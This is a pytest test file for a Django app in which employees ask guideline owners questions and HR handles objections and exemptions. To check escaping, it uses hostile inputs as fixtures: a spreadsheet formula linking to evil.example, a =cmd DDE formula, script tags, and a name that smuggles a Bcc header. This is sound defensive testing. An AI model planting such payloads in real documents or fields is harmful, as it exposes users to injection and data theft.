"""Questions and objections (guidelines/questions.py): an employee asks the owner of a guideline about the
version they read and gets the answer by e-mail; records an objection or exception request, kept as evidence
that does not count as an acknowledgement; HR handles it (an exemption through services.grant_exemption).
Who may read and write what, the limit on messages, the texts refused, append-only tables, and hostile
names and texts kept as text in the pages, the e-mails, the auditor pack and its CSV."""

import csv
import io
import json
import re
import subprocess
from contextlib import contextmanager
from datetime import timedelta
from unittest import mock

import pytest
import time_machine
from django.core import mail
from django.core.exceptions import PermissionDenied, ValidationError
from django.db import DatabaseError, connection, transaction
from django.urls import reverse
from django.utils import timezone
from pypdf import PdfReader

from guidelines import notifications, publishing, questions, services, status, tasks
from guidelines.models import (
    AuditEvent,
    Exemption,
    NotificationLog,
    Objection,
    ObjectionResolution,
    Question,
    QuestionMessage,
    Reading,
)
from guidelines.reports import jobs

from .factories import make_employee, publish
from .views.test_error_pattern import assert_error_pattern

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("fresh_rate_limits")]

HOSTILE_FIRST = '=HYPERLINK("http://evil.example/"&A1)'
HOSTILE_LAST = '<script>alert(1)</script> & "Co"'
HOSTILE_TEXT = '=cmd|" /c calc"!A1 <script>alert(2)</script> & "quoted"\nA second line.'


@pytest.fixture
def olga(db):
    """The owner of the guideline: an employee (her e-mails are logged by her employee record)."""
    return make_employee("olga@example.com", "E0077", department="Compliance")


@pytest.fixture
def owned(guideline, olga, version_1):
    guideline.owner = olga.user
    guideline.save()
    version_1.guideline = guideline
    return version_1


@pytest.fixture
def mallory(db):
    """An employee whose name the HR system holds as hostile text."""
    employee = make_employee("mallory@example.com", "E0666")
    employee.user.first_name, employee.user.last_name = HOSTILE_FIRST, HOSTILE_LAST
    employee.user.save()
    return employee


@pytest.fixture
def worker(django_capture_on_commit_callbacks):
    """Inside `with worker():` the e-mail task runs as a worker would, when the transaction commits."""

    @contextmanager
    def run():
        send = lambda *args: tasks.send_question_emails.apply(args=args)  # noqa: E731
        with mock.patch.object(tasks.send_question_emails, "delay", side_effect=send) as delay, \
                django_capture_on_commit_callbacks(execute=True):
            yield delay

    return run


def sent_since(before):
    return mail.outbox[before:]


def html_of(message):
    return message.alternatives[0][0]


def ask(employee, version, text="May I post photos of the office party?", language="en"):
    return questions.ask(employee=employee, version=version, language=language, text=text)


def objection_of(employee, version, web_meta, kind=Objection.Kind.OBJECTION, reason="The rule on private accounts "
                 "goes too far."):
    return questions.record_objection(employee=employee, version=version, language="en", kind=kind, reason=reason,
                                      meta=web_meta)


# Asking and answering ---------------------------------------------------------------------------------------


def test_a_question_e_mails_the_owner_once_even_when_the_task_runs_twice(alice, olga, owned, worker):
    before = len(mail.outbox)
    with worker() as delay:
        question = ask(alice, owned)
    assert delay.call_count == 1
    (message,) = sent_since(before)
    assert message.to == ["olga@example.com"]
    assert message.subject == "Question from Alice Example: Social media guideline, version 1.0"
    assert "May I post photos of the office party?" in message.body and "Alice Example (E0001)" in message.body
    assert reverse("guidelines:question", args=[question.pk]) in message.body
    first = question.messages.get()
    # A redelivered task (same id) and a duplicate (another id) send nothing more.
    for task_id in ("redelivered", "redelivered", None):
        tasks.send_question_emails.apply(args=(NotificationLog.Kind.QUESTION, first.pk), task_id=task_id)
    assert len(mail.outbox) - before == 1
    log = NotificationLog.objects.get(kind=NotificationLog.Kind.QUESTION)
    assert (log.recipient, log.status, log.idempotency_key) == (olga, "sent", f"question:{first.pk}:{olga.pk}")
    assert (question.version, question.language, question.employee) == (owned, "en", alice)


def test_the_answer_is_e_mailed_to_the_employee_and_a_follow_up_to_the_owner(alice, olga, owned, worker):
    question = ask(alice, owned)
    before = len(mail.outbox)
    with worker():
        questions.answer(question=question, by=olga.user, text="Yes, with everyone's consent.")
    (message,) = sent_since(before)
    assert message.to == ["alice@example.com"]
    assert message.subject == "Answer to your question about the Social media guideline"
    assert "Olga Example answered your question" in message.body and "with everyone's consent" in message.body
    thread = questions.with_state(Question.objects.filter(pk=question.pk)).get()
    assert not questions.is_open(thread) and thread.messages.last().role == QuestionMessage.Role.OWNER
    with worker():
        questions.follow_up(question=question, employee=alice, text="And videos?")
    follow_up = sent_since(before)[1]
    assert follow_up.to == ["olga@example.com"]
    assert follow_up.subject.startswith("Follow-up question from Alice Example")
    assert questions.is_open(questions.with_state(Question.objects.filter(pk=question.pk)).get())


def test_hr_answers_as_hr_and_an_owner_without_employee_record_is_not_e_mailed(alice, hilde, version_1, worker):
    before = len(mail.outbox)
    with worker():
        question = ask(alice, version_1)  # Hilde owns it; she has no employee record to e-mail her by
        questions.answer(question=question, by=hilde, text="See section 2.")
    assert [message.to for message in sent_since(before)] == [["alice@example.com"]]
    assert question.messages.last().role == QuestionMessage.Role.OWNER
    other_hr = make_employee("hanna@example.com", "E0010", groups=["HR"])
    questions.answer(question=question, by=other_hr.user, text="And section 3.")
    assert question.messages.last().role == QuestionMessage.Role.HR


def test_only_the_owner_and_hr_answer_and_nobody_answers_their_own_question(alice, bob, otto, olga, owned):
    question = ask(alice, owned)
    for person in (bob.user, otto.user, alice.user):
        with pytest.raises(PermissionDenied):
            questions.answer(question=question, by=person, text="I know!")
    with pytest.raises(PermissionDenied):
        questions.follow_up(question=question, employee=otto, text="Me too.")
    assert question.messages.count() == 1


def test_employees_see_only_their_own_threads(alice, bob, otto, olga, hilde, arjen, owned, web_meta):
    question = ask(alice, owned)
    objection = objection_of(alice, owned, web_meta)
    own = ask(otto, owned, "Does this apply to Finance?")

    def readable(user):
        return (set(questions.visible_questions(user).values_list("pk", flat=True)),
                set(questions.visible_objections(user).values_list("pk", flat=True)))

    assert readable(alice.user) == ({question.pk}, {objection.pk})
    assert readable(otto.user) == ({own.pk}, set())
    assert readable(bob.user) == (set(), set())  # her manager neither
    assert readable(olga.user) == ({question.pk, own.pk}, {objection.pk})  # the owner
    assert readable(hilde) == ({question.pk, own.pk}, {objection.pk})  # HR
    assert readable(arjen) == (set(), {objection.pk})  # auditors read the evidence, not the questions


def test_asking_needs_the_guideline_to_apply_and_a_live_guideline(alice, otto, guideline, hilde, version_1):
    guideline.audience_everyone = False
    guideline.save()
    guideline.audience_departments.add(alice.department)
    with pytest.raises(PermissionDenied, match="does not apply to you"):
        ask(otto, version_1)
    alice.end_date = timezone.localdate()
    alice.save()
    with pytest.raises(PermissionDenied, match="employment record is not active"):
        ask(alice, version_1)
    alice.end_date = None
    alice.save()
    publishing.retire_guideline(guideline=guideline, by=hilde, reason="Replaced.")
    version_1.refresh_from_db()
    version_1.guideline.refresh_from_db()
    with pytest.raises(ValidationError, match="retired"):
        ask(alice, version_1)
    assert not Question.objects.exists()


@pytest.mark.parametrize(("text", "message"), [
    ("", "Write the text first."),
    ("   \n ", "Write the text first."),
    ("Null\x00byte", "control character U+0000 at position 5"),
    ("Bell\x07", "control character U+0007 at position 5"),
    ("Reversed \u202eevil", "control character U+202E at position 10"),
    ("x" * 4001, "Keep it to 4000 characters; this text has 4001."),
])
def test_texts_are_refused_with_a_message_that_says_why(alice, owned, text, message):
    with pytest.raises(ValidationError, match=re.escape(message)):
        ask(alice, owned, text)
    assert not Question.objects.exists()
    assert questions.clean_text("Tabs\tand\r\nlines\r\n") == "Tabs\tand\nlines"  # kept, line ends as \n


# Objections and exception requests --------------------------------------------------------------------------


def test_an_objection_is_recorded_as_evidence_of_the_text_shown(client_as, alice, olga, owned, web_meta, worker):
    client_as(alice).get(reverse("guidelines:detail", args=["social-media"]))  # the first opening
    before = len(mail.outbox)
    with worker():
        objection = objection_of(alice, owned, web_meta)
    text = owned.texts.get(language="en")
    assert (objection.kind, objection.version, objection.major, objection.language) == ("objection", owned, 1, "en")
    assert objection.content_hash == text.content_hash and len(objection.content_hash) == 64
    assert objection.statement == "I have read the Social media guideline, version 1.0, and I object to it."
    assert objection.reason == "The rule on private accounts goes too far."
    assert (objection.auth_method, objection.ip_address, objection.user_agent) == ("password", "10.1.2.3", "pytest")
    assert objection.first_opened_at == Reading.objects.get(employee=alice, version=owned).first_opened_at
    assert (objection.employee_number, objection.employee_name, objection.department_name) == (
        "E0001", "Alice Example", "Operations")
    event = AuditEvent.objects.get(action=AuditEvent.Action.OBJECTION_RECORDED)
    assert event.details["objection"] == objection.pk and event.actor == alice.user
    (message,) = sent_since(before)
    assert message.to == ["olga@example.com"]
    assert message.subject == "Objection from Alice Example: Social media guideline, version 1.0"
    assert "does not count as an acknowledgement" in message.body


def test_an_objection_does_not_count_as_acknowledged_and_reminders_go_on(alice, owned, web_meta):
    objection_of(alice, owned, web_meta)
    objection_of(alice, owned, web_meta, kind=Objection.Kind.EXCEPTION, reason="I am on leave for a year.")
    assert status.standings(alice, [owned])[owned.pk].status == status.Status.PENDING
    later = timezone.localdate() + timedelta(days=owned.guideline.due_days + 10)
    with time_machine.travel(later, tick=False):
        assert status.standings(alice, [owned])[owned.pk].status == status.Status.OVERDUE
        digests = notifications.compose_digests([alice.pk], later)
        assert [digest.recipient for digest in digests] == [alice]  # still reminded
    # She may still acknowledge; the objection stays on record.
    services.acknowledge(employee=alice, version=owned, language="en", meta=web_meta)
    assert status.standings(alice, [owned])[owned.pk].status == status.Status.ACKNOWLEDGED
    assert Objection.objects.filter(employee=alice).count() == 2


def test_objections_and_threads_are_append_only_in_the_database(alice, olga, hilde, owned, web_meta):
    question = ask(alice, owned)
    questions.answer(question=question, by=olga.user, text="No.")
    objection = objection_of(alice, owned, web_meta, kind=Objection.Kind.EXCEPTION)
    questions.resolve(objection=objection, by=hilde, outcome="declined", note="Everyone acknowledges.")
    for table in ("guidelines_question", "guidelines_questionmessage", "guidelines_objection",
                  "guidelines_objectionresolution"):
        for statement in (f"UPDATE {table} SET id = id", f"DELETE FROM {table}"):
            with pytest.raises(DatabaseError, match="append-only evidence"), transaction.atomic(), \
                    connection.cursor() as cursor:
                cursor.execute(statement)
    objection.reason = "Rewritten."
    with pytest.raises(TypeError):
        objection.save()
    with pytest.raises(TypeError):
        Objection.objects.filter(pk=objection.pk).update(reason="Rewritten.")
    with pytest.raises(TypeError):
        question.messages.first().delete()
    assert Objection.objects.get(pk=objection.pk).reason == "The rule on private accounts goes too far."


def test_only_the_current_version_can_be_objected_to(alice, guideline, hilde, bob, owned, web_meta):
    publish(guideline, author=hilde, approver=bob.user)
    owned.refresh_from_db()
    with pytest.raises(ValidationError, match="not the current version"):
        objection_of(alice, owned, web_meta)
    ask(alice, owned)  # a question about an earlier version is fine
    assert not Objection.objects.exists()


def test_hr_grants_the_exemption_an_exception_request_asks_for(alice, olga, hilde, owned, web_meta, worker):
    request = objection_of(alice, owned, web_meta, kind=Objection.Kind.EXCEPTION, reason="On leave until June.")
    ends_on = timezone.localdate() + timedelta(days=120)
    before = len(mail.outbox)
    with worker():
        resolution = questions.resolve(objection=request, by=hilde, outcome="exempted",
                                       note="Granted until you are back.", ends_on=ends_on)
    exemption = Exemption.objects.get(employee=alice)
    assert resolution.exemption == exemption and exemption.granted_by == hilde
    assert (exemption.reason, exemption.ends_on) == ("Granted until you are back.", ends_on)
    assert AuditEvent.objects.filter(action=AuditEvent.Action.EXEMPTION_GRANTED).exists()
    assert AuditEvent.objects.get(action=AuditEvent.Action.OBJECTION_RESOLVED).details["outcome"] == "exempted"
    assert status.standings(alice, [owned])[owned.pk].status == status.Status.EXEMPT
    (message,) = sent_since(before)
    assert message.to == ["alice@example.com"]
    assert message.subject == "Your exception request for the Social media guideline: exemption granted"
    assert "you are exempted from the Social media guideline until" in message.body
    assert Objection.objects.get(pk=request.pk).handling == resolution  # beside it; the request is unchanged
    with pytest.raises(ValidationError, match="handled already"):
        questions.resolve(objection=request, by=hilde, outcome="declined", note="Changed my mind.")
    assert Exemption.objects.count() == 1


def test_handling_is_for_hr_with_an_outcome_that_fits(alice, olga, bob, hilde, owned, web_meta):
    objection = objection_of(alice, owned, web_meta)
    for person in (olga.user, bob.user, alice.user):  # the owner reads it; HR decides
        with pytest.raises(PermissionDenied):
            questions.resolve(objection=objection, by=person, outcome="answered", note="Noted.")
    with pytest.raises(ValidationError, match="Choose how this objection was handled"):
        questions.resolve(objection=objection, by=hilde, outcome="exempted", note="Exempt.")
    assert not ObjectionResolution.objects.exists() and not Exemption.objects.exists()


def test_messages_are_limited_per_employee(alice, otto, owned, web_meta, settings):
    settings.QUESTION_RATE = (3, 3600)
    start = timezone.now()
    with time_machine.travel(start, tick=False):
        first = ask(alice, owned)
    with time_machine.travel(start + timedelta(minutes=10), tick=False):
        questions.follow_up(question=first, employee=alice, text="Or at least the team photo?")
        objection_of(alice, owned, web_meta)
        with pytest.raises(questions.TooManyMessages) as refused:
            ask(alice, owned)
        with pytest.raises(questions.TooManyMessages):
            objection_of(alice, owned, web_meta, kind=Objection.Kind.EXCEPTION)
        ask(otto, owned)  # per employee
    assert refused.value.retry_at == start + timedelta(seconds=3600)
    with time_machine.travel(start + timedelta(seconds=3601), tick=False):
        ask(alice, owned)
    assert QuestionMessage.objects.filter(author=alice.user).count() == 3


# The pages ---------------------------------------------------------------------------------------------------


def test_the_guideline_page_offers_asking_and_objecting_instead_of_a_mail_link(client_as, alice, olga, owned,
                                                                               web_meta):
    client = client_as(alice)
    html = client.get(reverse("guidelines:detail", args=["social-media"])).content.decode()
    assert "mailto:" not in html and "Owner: Olga Example" in html
    assert f'{reverse("guidelines:ask", args=["social-media"])}?lang=en' in html
    assert f'{reverse("guidelines:object", args=["social-media"])}?lang=en' in html
    assert "Your question about version" not in html
    question = ask(alice, owned)
    objection = objection_of(alice, owned, web_meta)
    html = client.get(reverse("guidelines:detail", args=["social-media"])).content.decode()
    assert reverse("guidelines:question", args=[question.pk]) in html
    assert reverse("guidelines:objection", args=[objection.pk]) in html
    assert "waiting for an answer" in html and "waiting for HR" in html


def test_an_employee_asks_on_the_page_and_reads_the_answer(client_as, alice, olga, owned, worker):
    client = client_as(alice)
    page = client.get(reverse("guidelines:ask", args=["social-media"]), {"lang": "en"})
    assert page.status_code == 200 and "Your question goes to Olga Example" in page.content.decode()
    with worker():
        response = client.post(reverse("guidelines:ask", args=["social-media"]),
                               {"version": owned.pk, "language": "en", "text": "Can I like posts of clients?"})
    question = Question.objects.get()
    assert response.status_code == 302 and response["Location"] == reverse("guidelines:question", args=[question.pk])
    with worker():
        response = client_as(olga).post(response["Location"], {"text": "Yes, as yourself."})
    assert response.status_code == 302
    html = client_as(alice).get(reverse("guidelines:question", args=[question.pk])).content.decode()
    assert "Can I like posts of clients?" in html and "Yes, as yourself." in html and "answered" in html
    mine = client.get(reverse("guidelines:my_questions")).content.decode()
    assert "Can I like posts of clients?" in mine


def test_the_forms_follow_the_error_pattern_and_write_nothing(client_as, alice, olga, hilde, owned, web_meta):
    client = client_as(alice)
    ask_url, object_url = reverse("guidelines:ask", args=["social-media"]), reverse("guidelines:object",
                                                                                    args=["social-media"])
    response = client.post(ask_url, {"version": owned.pk, "language": "en", "text": ""})
    assert_error_pattern(response, ["text"])
    assert "Write your question." in response.content.decode()
    response = client.post(ask_url, {"version": owned.pk, "language": "en", "text": "Hidden\x00null"})
    assert_error_pattern(response, ["text"])
    assert "control character U+0000 at position 7" in response.content.decode()
    assert "Hidden" in response.content.decode()  # what was typed comes back
    response = client.post(object_url, {"version": owned.pk, "language": "en", "reason": ""})
    assert_error_pattern(response, ["kind", "reason"])
    assert "Choose an objection or an exception request." in response.content.decode()
    assert not Question.objects.exists() and not Objection.objects.exists()

    question, objection = ask(alice, owned), objection_of(alice, owned, web_meta, kind=Objection.Kind.EXCEPTION)
    response = client_as(olga).post(reverse("guidelines:question", args=[question.pk]), {"text": " "})
    assert_error_pattern(response, ["text"])
    response = client_as(hilde).post(reverse("guidelines:objection", args=[objection.pk]),
                                     {"outcome": "declined", "note": "", "ends_on": "2000-01-01"})
    assert_error_pattern(response, ["note", "ends_on"])
    response = client_as(hilde).post(reverse("guidelines:objection", args=[objection.pk]), {"note": "Fine."})
    assert_error_pattern(response, ["outcome"])
    assert question.messages.count() == 1 and not ObjectionResolution.objects.exists()


def test_altered_hidden_fields_are_refused(client_as, alice, owned, guideline, hilde):
    from .factories import make_guideline

    other = publish(make_guideline(hilde, slug="other"), author=hilde, approver=owned.approved_by)
    client = client_as(alice)
    url = reverse("guidelines:ask", args=["social-media"])
    assert client.post(url, {"version": other.pk, "language": "en", "text": "Hi"}).status_code == 400
    assert client.post(url, {"version": owned.pk, "language": "de", "text": "Hi"}).status_code == 400
    assert not Question.objects.exists()


def test_too_many_messages_are_a_429_that_keeps_the_text(client_as, alice, owned, settings, security_log):
    settings.QUESTION_RATE = (1, 3600)
    client = client_as(alice)
    url = reverse("guidelines:ask", args=["social-media"])
    assert client.post(url, {"version": owned.pk, "language": "en", "text": "First."}).status_code == 302
    response = client.post(url, {"version": owned.pk, "language": "en", "text": "Second, kept."})
    assert response.status_code == 429 and 3500 <= int(response["Retry-After"]) <= 3600
    html = response.content.decode()
    assert "you can send the next one after" in html and "Second, kept." in html and "error-summary" in html
    assert security_log("rate_limited")[-1]["details"]["bucket"] == "questions"
    assert Question.objects.count() == 1


def test_someone_elses_thread_and_objection_are_not_found(client_as, alice, bob, otto, owned, web_meta):
    question = ask(alice, owned)
    objection = objection_of(alice, owned, web_meta)
    for person in (otto, bob):  # another employee, and her manager
        client = client_as(person)
        for url in (reverse("guidelines:question", args=[question.pk]),
                    reverse("guidelines:objection", args=[objection.pk])):
            assert client.get(url).status_code == 404
            assert client.post(url, {"text": "Hijacked.", "outcome": "answered", "note": "x"}).status_code == 404
    assert question.messages.count() == 1 and not ObjectionResolution.objects.exists()
    assert client_as(otto).get(reverse("guidelines:question_inbox")).status_code == 403


def test_hr_and_the_owner_see_what_is_open_per_version(client_as, alice, otto, olga, hilde, arjen, owned,
                                                        web_meta):
    ask(alice, owned, "Photos?")
    objection_of(alice, owned, web_meta)
    objection_of(otto, owned, web_meta, kind=Objection.Kind.EXCEPTION, reason="Freelancer.")
    html = client_as(hilde).get(reverse("guidelines:hr_guideline", args=["social-media"])).content.decode()
    row = re.search(r"<tr><td>1\.0</td><td>(\d+)</td><td>(\d+)</td><td>(\d+)</td></tr>", html)
    assert row and row.groups() == ("1", "1", "1")
    inbox = client_as(olga).get(reverse("guidelines:question_inbox")).content.decode()
    assert "Photos?" in inbox and "Freelancer." in inbox and "Otto Example" in inbox
    dashboard = client_as(arjen).get(reverse("guidelines:dashboard_guideline", args=["social-media"]))
    html = dashboard.content.decode()
    assert "1 objection to version 1.x is waiting for HR." in html
    assert "1 exception request for version 1.x is waiting for HR." in html
    assert html.count('class="badge badge-overdue" href="/objections/') == 2  # Alice and Otto marked
    assert re.search(r"Alice Example</a>.*?>pending</span><a class=\"badge badge-overdue\"[^>]*>objects", html, re.S)
    team = client_as(alice.manager).get(reverse("guidelines:team")).content.decode()
    assert "/objections/" not in team  # a manager's team page does not show them


def test_hr_handles_an_exception_request_on_its_page(client_as, alice, hilde, owned, web_meta, worker):
    request = objection_of(alice, owned, web_meta, kind=Objection.Kind.EXCEPTION, reason="On leave.")
    client = client_as(hilde)
    page = client.get(reverse("guidelines:objection", args=[request.pk])).content.decode()
    assert "Record the handling" in page and request.content_hash in page
    with worker():
        response = client.post(reverse("guidelines:objection", args=[request.pk]),
                               {"outcome": "exempted", "note": "Granted.", "ends_on": ""})
    assert response.status_code == 302
    assert Exemption.objects.get(employee=alice).reason == "Granted."
    html = client_as(alice).get(reverse("guidelines:objection", args=[request.pk])).content.decode()
    assert "Exemption granted" in html and "Granted." in html and "Record the handling" not in html


# Hostile names and texts ---------------------------------------------------------------------------------------


def test_a_hostile_name_and_text_stay_text_in_pages_e_mails_pack_and_csv(
        client_as, mallory, olga, hilde, arjen, owned, web_meta, worker, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    before = len(mail.outbox)
    with worker():
        question = ask(mallory, owned, HOSTILE_TEXT)
        objection = objection_of(mallory, owned, web_meta, reason=HOSTILE_TEXT)
    escaped_name = "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &quot;Co&quot;"
    for person, url in ((hilde, reverse("guidelines:question_inbox")),
                        (olga, reverse("guidelines:question", args=[question.pk])),
                        (hilde, reverse("guidelines:objection", args=[objection.pk])),
                        (arjen, reverse("guidelines:dashboard_guideline", args=["social-media"]))):
        response = client_as(person).get(url)
        assert response.status_code == 200, url
        html = response.content.decode()
        assert "<script>alert(" not in html, url
        assert escaped_name in html, url
    html = client_as(olga).get(reverse("guidelines:question", args=[question.pk])).content.decode()
    assert "&lt;script&gt;alert(2)&lt;/script&gt; &amp; &quot;quoted&quot;" in html

    for message in sent_since(before):  # the question and the objection, to the owner
        assert "\n" not in message.subject and f"{HOSTILE_FIRST} {HOSTILE_LAST}" in message.subject
        # Plain text is text, every line quoted (no line of it passes for the e-mail's own).
        assert "\n".join(f"> {line}" for line in HOSTILE_TEXT.split("\n")) in message.body
        html = html_of(message)
        assert "<script>" not in html and escaped_name in html
        assert "&lt;script&gt;alert(2)&lt;/script&gt;" in html
    with worker():
        questions.answer(question=question, by=olga.user, text="<b>No</b> & \"never\"")
    answer = sent_since(before)[-1]
    assert answer.to == ["mallory@example.com"] and "<b>No</b>" not in html_of(answer)
    assert "&lt;b&gt;No&lt;/b&gt; &amp; &quot;never&quot;" in html_of(answer)

    report = jobs.generate_now(jobs.start_audit_pack(user=arjen, guideline_slug="social-media", language="en"))
    path = jobs.reports_dir() / report.file
    text = subprocess.run(["pdftotext", str(path), "-"], capture_output=True, text=True, check=True).stdout
    assert "Objections and exception requests" in text
    # Printed as text, not read as markup (the table's column may wrap it anywhere: compared without spaces).
    assert '<script>alert(2)</script>&"quoted"' in "".join(text.split())
    assert '<script>alert(1)</script>&"Co"' in "".join(text.split())
    attachments = PdfReader(path).attachments
    rows = list(csv.DictReader(io.StringIO(attachments["objections.csv"][0].decode())))
    assert len(rows) == 1
    assert rows[0]["employee_name"].startswith("'=HYPERLINK") and rows[0]["reason"].startswith("'=cmd")
    assert rows[0]["handling"] == "open" and rows[0]["content_hash"] == objection.content_hash
    manifest = json.loads(attachments["manifest.json"][0])
    assert manifest["objections"]["rows"] == 1 and manifest["objections"]["open"] == 1


def test_the_pack_lists_the_handling_as_it_stood_on_its_day(alice, hilde, arjen, owned, web_meta, settings,
                                                             tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    request = objection_of(alice, owned, web_meta, kind=Objection.Kind.EXCEPTION, reason="Sabbatical.")
    today = timezone.localdate()
    with time_machine.travel(timezone.now() + timedelta(days=1), tick=False):
        questions.resolve(objection=request, by=hilde, outcome="declined", note="Not a reason to skip it.")
        earlier = jobs.generate_now(jobs.start_audit_pack(user=arjen, guideline_slug="social-media", language="en",
                                                          as_of=today.isoformat()))
        later = jobs.generate_now(jobs.start_audit_pack(user=arjen, guideline_slug="social-media", language="en"))

    def objections_csv(report):
        attachment = PdfReader(jobs.reports_dir() / report.file).attachments["objections.csv"][0].decode()
        return list(csv.DictReader(io.StringIO(attachment)))

    assert [row["handling"] for row in objections_csv(earlier)] == ["open"]
    (row,) = objections_csv(later)
    assert (row["handling"], row["answer"], row["kind"]) == ("declined", "Not a reason to skip it.", "exception")
    assert row["statement"] == "I ask to be exempted from the Social media guideline, version 1.0."


def test_the_evidence_docs_query_lists_objections_with_their_handling(alice, otto, hilde, owned, web_meta):
    from .test_evidence_doc import blocks, section

    first = objection_of(alice, owned, web_meta)
    objection_of(otto, owned, web_meta, kind=Objection.Kind.EXCEPTION, reason="Freelancer.")
    questions.resolve(objection=first, by=hilde, outcome="answered", note="The rule stays.")
    (query,) = blocks(section("## Objections and exception requests"), "sql")
    with connection.cursor() as cursor:
        cursor.execute(query)
        rows = cursor.fetchall()
    assert [(row[1], row[2], row[3], row[6], row[8]) for row in rows] == [
        ("E0001", "objection", "1.0", "answered", "The rule stays."), ("E0099", "exception", "1.0", None, None)]


def test_a_name_with_a_line_break_stays_on_its_line_in_the_e_mail(alice, olga, owned, worker):
    alice.user.last_name = "Example\nBcc: victim@example.com"
    alice.user.save()
    before = len(mail.outbox)
    with worker():
        ask(alice, owned)
    (message,) = sent_since(before)
    assert "\n" not in message.subject and "Bcc" not in message.message().keys()
    assert "\nBcc:" not in message.body and "Alice Example Bcc: victim@example.com (E0001)" in message.body
